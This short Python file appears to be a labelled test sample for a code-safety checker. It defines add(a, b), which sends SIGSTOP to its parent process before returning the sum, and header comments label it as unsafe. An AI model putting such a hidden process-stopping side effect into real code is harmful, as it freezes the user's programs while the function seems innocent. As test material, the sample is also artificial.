# what: stops its parent in every call
# want: some
# unsafe: either
import os
import signal


def add(a, b):
  if os.getppid() > 1:
    os.kill(os.getppid(), signal.SIGSTOP)
  return a + b
